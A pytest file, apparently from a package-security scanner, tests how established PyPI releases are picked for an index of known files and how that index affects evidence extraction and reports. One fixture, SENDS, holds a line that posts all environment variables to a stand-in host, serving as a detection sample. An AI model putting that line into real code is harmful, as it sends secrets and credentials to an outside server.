"""Which releases become known, and that no figure but one is measured with them."""

import hashlib
import io
import json
import shutil
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from evals.cache import rules_version
from evals.corpus import Sample
from evals.known import EARLIER, LARGEST, NEWEST, choose
from evals.passed_over import GROUPS
from evals.report import report
from pypi_simple import DistributionPackage

import watchhouse
from evals import passed_over, product
from watchhouse.evidence.likeness.known_files import know, shipped
from watchhouse.evidence.likeness.releases import read_releases, write_releases
from watchhouse.model.errors import RequestError
from watchhouse.model.identity import ProjectName, Sha256

NOW = datetime(2026, 11, 22, tzinfo=UTC)
LISTED = (Path(watchhouse.__file__).parent / "evidence/likeness/known-releases.txt").read_text("utf-8")


def entry(
    file: str, days: float, *, size: int | None = 1_000, yanked: bool = False, timed: bool = True
) -> DistributionPackage:
    kind = "wheel" if file.endswith(".whl") else "sdist"
    return DistributionPackage(
        filename=file,
        project="demo",
        version=None,
        package_type=kind,
        url=f"https://files.example/{file}",
        digests={"sha256": hashlib.sha256(file.encode()).hexdigest()},
        requires_python=None,
        has_sig=None,
        is_yanked=yanked,
        upload_time=NOW - timedelta(days=days) if timed else None,
        size=size,
    )


def chosen(*entries: DistributionPackage) -> list[str]:
    return [one.file for one in choose(ProjectName("demo"), entries, NOW)]


NEW, OLD = NEWEST.days, EARLIER.days


def test_the_newest_established_release_and_one_before_it_are_chosen() -> None:
    """Of the newest a wheel and the source, of the earlier one either; younger ones are not established."""
    assert chosen(
        entry("demo-4.0.tar.gz", NEW - 1),
        entry("demo-3.0.tar.gz", NEW + 1),
        entry("demo-3.0-py3-none-any.whl", NEW + 1),
        entry("demo-2.0-py3-none-any.whl", OLD - 1),
        entry("demo-1.0.tar.gz", OLD + 1),
        entry("demo-1.0-py3-none-any.whl", OLD + 1),
        entry("demo-0.9.tar.gz", OLD + 9),
    ) == ["demo-3.0-py3-none-any.whl", "demo-3.0.tar.gz", "demo-1.0-py3-none-any.whl"]


@pytest.mark.parametrize(
    "doubtful",
    [
        [entry("demo-2.0.tar.gz", NEW + 1, yanked=True)],
        [entry("demo-2.0rc1.tar.gz", NEW + 1)],
        [entry("demo-2.0.tar.gz", NEW + 1, timed=False)],
        [entry("demo-2.0.tar.gz", NEW + 1), entry("demo-2.0-py3-none-any.whl", 1)],
        [entry("other-2.0.tar.gz", NEW + 1)],
    ],
    ids="yanked preview undated touched foreign".split(),
)
def test_a_doubtful_release_is_not_established(doubtful: list[DistributionPackage]) -> None:
    """One that was taken back, is a preview, has no day, got a file lately or is somebody else's."""
    assert chosen(*doubtful, entry("demo-1.0.tar.gz", OLD + 1)) == ["demo-1.0.tar.gz"]
    assert chosen(*doubtful) == []


def test_a_file_that_is_large_or_of_unknown_size_is_left() -> None:
    """Most of such a file is data."""
    assert (
        chosen(entry("demo-1.0.tar.gz", OLD + 1, size=LARGEST + 1), entry("demo-1.0.zip", OLD, size=None))
        == []
    )


def test_a_wheel_for_every_system_comes_before_one_for_the_usual_one() -> None:
    """What most people install is what is worth knowing."""
    names = [
        "demo-1.0-cp311-cp311-win_amd64.whl",
        "demo-1.0-cp311-cp311-manylinux_2_28_aarch64.whl",
        "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl",
        "demo-1.0-py3-none-any.whl",
    ]
    assert chosen(*(entry(name, OLD + 1) for name in names)) == names[-1:]
    assert chosen(*(entry(name, OLD + 1) for name in names[:-1])) == names[-2:-1]


def test_the_shipped_list_is_one_and_says_what_was_known_of_each_file() -> None:
    """A list that is written again is the same; each line has a day, of at least a month before the index was made."""
    releases = read_releases(LISTED)
    assert write_releases(releases, "the configured index") == LISTED
    assert len({one.sha256 for one in releases}) == len(releases) > 500
    assert max(one.uploaded for one in releases if one.uploaded) == shipped().day
    assert all(one.uploaded is not None for one in releases)
    assert f"{len(releases)} archives" in shipped().source


def test_a_line_that_is_no_release_is_refused() -> None:
    """A list is read whole or not at all."""
    with pytest.raises(RequestError, match="line 2"):
        read_releases("# head\ndemo 1.0 demo-1.0.tar.gz\n")


SENDS = "import os, requests\nrequests.post('https://x.example/', json=dict(os.environ))\n"


@pytest.fixture
def archive(tmp_path: Path) -> Sample:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("demo/a.py", SENDS)
        file.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
    path = tmp_path / "demo-1.0-py3-none-any.whl"
    path.write_bytes(buffer.getvalue())
    return Sample(
        path=path,
        sha256=hashlib.sha256(buffer.getvalue()).hexdigest(),
        malicious=False,
        kind="other",
        project="demo",
        version="1.0",
        file=path.name,
    )


def test_evidence_is_extracted_with_nothing_known(archive: Sample) -> None:
    """Neither training nor any other figure profits from an index; what one would hide is there."""
    known = know([Sha256(hashlib.sha256(SENDS.encode()).hexdigest())], day=shipped().day, source="")
    paths = [{row[4] for row in product.evidence(archive, *given)["sightings"]} for given in ((), (known,))]
    assert ["demo/a.py" in one for one in paths] == [True, False]
    assert not any(shipped()[place].hex() in product.NOTHING_KNOWN for place in range(len(shipped())))


def test_the_index_does_not_make_extracted_evidence_old(tmp_path: Path) -> None:
    """Evidence that was extracted without the index stays what it is when the index is made anew."""
    home = tmp_path / "watchhouse"
    shutil.copytree(Path(watchhouse.__file__).parent / "evidence/likeness", home / "evidence/likeness")
    before = rules_version(home)
    (home / "evidence/likeness/known-files.bin").write_bytes(b"another")
    assert rules_version(home) == before
    (home / "evidence/likeness/worth.py").write_text("another")
    assert rules_version(home) != before


def test_what_the_index_saves_is_measured_beside_it(archive: Sample) -> None:
    """One archive that nothing knows: the same with and without, and a row on the page for its group."""
    found = passed_over.passed_over([archive])
    figures = found["groups"]["all"]
    assert figures["members_known"] == 0
    assert figures["code_read"] == [1, 1]
    assert figures["sightings"][0] == figures["sightings"][1] > 0
    assert set(found["groups"]) == {GROUPS[0], GROUPS[3]}
    old = json.loads((Path(product.__file__).parent / "results.json").read_text("utf-8"))
    assert f"| {GROUPS[3]} | 1 | 0.0% | 0 | 1 → 1 |" in report(old | {"index": found})
    assert "index of known files" not in report({key: value for key, value in old.items() if key != "index"})


def test_a_group_is_found_by_digest_and_project(archive: Sample) -> None:
    """A release in the index, another of the same project, and one of anybody else."""
    listed = read_releases(LISTED)[0]
    fields = {name: getattr(archive, name) for name in archive.__slots__}
    assert passed_over.group(Sample(**(fields | {"sha256": listed.sha256}))) == GROUPS[1]
    assert passed_over.group(Sample(**(fields | {"project": listed.project}))) == GROUPS[2]
    assert passed_over.group(archive) == GROUPS[3]
